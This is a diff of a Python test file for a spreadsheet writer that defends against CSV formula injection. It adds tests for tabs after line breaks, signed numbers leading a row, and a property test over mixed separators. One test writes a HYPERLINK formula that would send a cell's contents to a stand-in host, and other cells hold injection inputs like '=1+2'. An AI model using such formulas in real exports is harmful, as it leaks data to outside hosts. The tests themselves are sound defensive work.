@@ -91,15 +91,23 @@ def test_a_number_stays_a_number(value):
     assert out.getvalue() == f"x,{value}\n"
 
 
+def test_a_tab_right_after_a_line_break_inside_a_cell_is_text():
+    # read line by line, '0\r\t0' starts a line with a tab, which some spreadsheets read as a formula start
+    assert spreadsheet.safe_cell("0\r\t0") == "0\r'\t0"
+    out = io.StringIO()
+    spreadsheet.writer(out).writerow(["0\r\t0", '=HYPERLINK("http://x/?"&A1,"x")'])
+    assert_no_formula(out.getvalue())
+
+
 @pytest.mark.parametrize("value", ["-0.5", " -0.5", "+2", "-0", -0.5, -3])
 def test_a_signed_number_leading_a_row_is_text(value):
     # read split at ';', the row '-0,1,a' is one cell starting with '-': the first cell must not start a formula
     out = io.StringIO()
     spreadsheet.writer(out).writerow([value, "=1+2", "x"])
     assert out.getvalue() == f"'{value},'=1+2,x\n"
-    alone = io.StringIO()
-    spreadsheet.writer(alone).writerow([value])  # a row of one cell is that cell in every reading: a number
-    assert alone.getvalue() == f"{value}\n"
+    alone = io.StringIO()  # alone in its row too: a previous row ending in a quoted line break can run into it
+    spreadsheet.writer(alone).writerows([["=1", "\n"], [value]])
+    assert alone.getvalue().endswith(f"\n'{value}\n")
 
 
 @pytest.mark.parametrize("text", ["Ann Lee", "ann@example.org", "0.2; 0.5; 0.2857", "", "s1", "'=quoted", "a-b+c"])
@@ -126,8 +134,8 @@ _ORDINARY = st.text(alphabet="abcXYZ019 .,;:'\"/%()\n_", max_size=12).filter(lam
 @given(st.lists(st.lists(st.one_of(_ORDINARY, st.integers(-999, 999), st.floats(0, 1), st.none()), min_size=1,
                          max_size=6), max_size=4))
 def test_ordinary_rows_are_written_as_csv_writer_writes_them(rows):
-    # (a negative number leading a row of several cells is written as text: the test above)
-    assume(not any(len(row) > 1 and isinstance(row[0], int) and row[0] < 0 for row in rows))
+    # (a negative number leading a row is written as text: the test above)
+    assume(not any(isinstance(row[0], int) and row[0] < 0 for row in rows))
     ours, theirs = io.StringIO(), io.StringIO()
     spreadsheet.writer(ours).writerows(rows)
     csv.writer(theirs, lineterminator="\n").writerows(rows)
@@ -348,3 +356,16 @@ def test_without_a_roster_an_id_whose_every_row_was_rejected_is_no_student(tmp_p
     assert f"{tmp_path / 'a.csv'}:3: unknown exercise '9' (the set has 1, 2); not graded" in report.problems
     ghost = [row for row in csv.DictReader(io.StringIO(report.render("csv"))) if row["student"] == "ghost"]
     assert [(r["status"], r["lines"]) for r in ghost] == [("unknown-exercise", "3")]
+
+
+_WRITER_CELL = st.one_of(_HOSTILE, st.text(alphabet="0-=+@\t\r\n; ,\"'a", max_size=8), st.integers(-5, 5))
+
+
+@settings(max_examples=1000, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(st.lists(st.lists(_WRITER_CELL, min_size=1, max_size=4), min_size=1, max_size=3))
+def test_property_any_rows_through_the_writer_are_inert_in_every_reading(rows):
+    # separators, quotes and line breaks mixed in every order: no reading (',', ';', tab) starts a formula
+    # (20,000 examples of this ran clean once, 2026-11-25)
+    out = io.StringIO()
+    spreadsheet.writer(out).writerows(rows)
+    assert_no_formula(out.getvalue())
